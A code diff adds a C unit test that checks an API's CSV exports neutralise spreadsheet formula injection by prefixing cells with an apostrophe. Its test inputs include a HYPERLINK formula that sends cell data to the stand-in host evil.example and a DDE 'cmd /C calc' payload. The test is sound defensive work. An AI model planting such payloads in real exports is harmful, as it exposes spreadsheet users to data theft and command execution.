@@ -614,6 +614,37 @@ START_TEST(new_clients_follow_deal_changes)
 }
 END_TEST
 
+/* Text a spreadsheet would run as a formula comes out of every CSV with a leading
+ * apostrophe (OWASP's advice); numbers keep their sign. */
+START_TEST(csv_cells_never_start_a_formula)
+{
+    char *key = api_new_workspace_key("results-csv-formulas", "admin");
+    struct api_response *r = api_post_json(
+        "/v1/leads", key,
+        "{\"channel\":\"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"Click\\\")\","
+        "\"created_at\":\"2025-01-10T10:00:00Z\",\"is_valid\":false,"
+        "\"invalid_reason\":\"-2+3+cmd|' /C calc'!A0\",\"contact\":{\"name\":\"@SUM(1)\"}}");
+    api_assert_status(r, 201);
+    api_response_free(r);
+    r = get_ok(key, "/v1/periods/2025-01/channels?format=csv&as_of=%s", AS_OF_JUNE);
+    ck_assert(api_content_type_is(r, "text/csv"));
+    ck_assert_msg(strstr(r->body, "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"") !=
+                      NULL,
+                  "%s", r->body);
+    ck_assert_msg(strstr(r->body, "\r\n\"=") == NULL && strstr(r->body, ",\"=") == NULL, "%s",
+                  r->body);
+    api_response_free(r);
+    r = get_ok(key, "/v1/periods/2025-01/rejections?format=csv&as_of=%s", AS_OF_JUNE);
+    ck_assert_msg(strstr(r->body, ",'-2+3+cmd|' /C calc'!A0") != NULL ||
+                      strstr(r->body, "\n'-2+3+cmd|' /C calc'!A0") != NULL,
+                  "%s", r->body);
+    ck_assert_msg(strstr(r->body, ",-2+3") == NULL && strstr(r->body, "\n-2+3") == NULL, "%s",
+                  r->body);
+    api_response_free(r);
+    free(key);
+}
+END_TEST
+
 Suite *api_results_suite(void)
 {
     Suite *s = suite_create("api_results");
@@ -627,6 +658,7 @@ Suite *api_results_suite(void)
     tcase_add_test(tc, csv_equals_json);
     tcase_add_test(tc, funnel_channels_rejections_series);
     tcase_add_test(tc, new_clients_follow_deal_changes);
+    tcase_add_test(tc, csv_cells_never_start_a_formula);
     suite_add_tcase(s, tc);
     return s;
 }
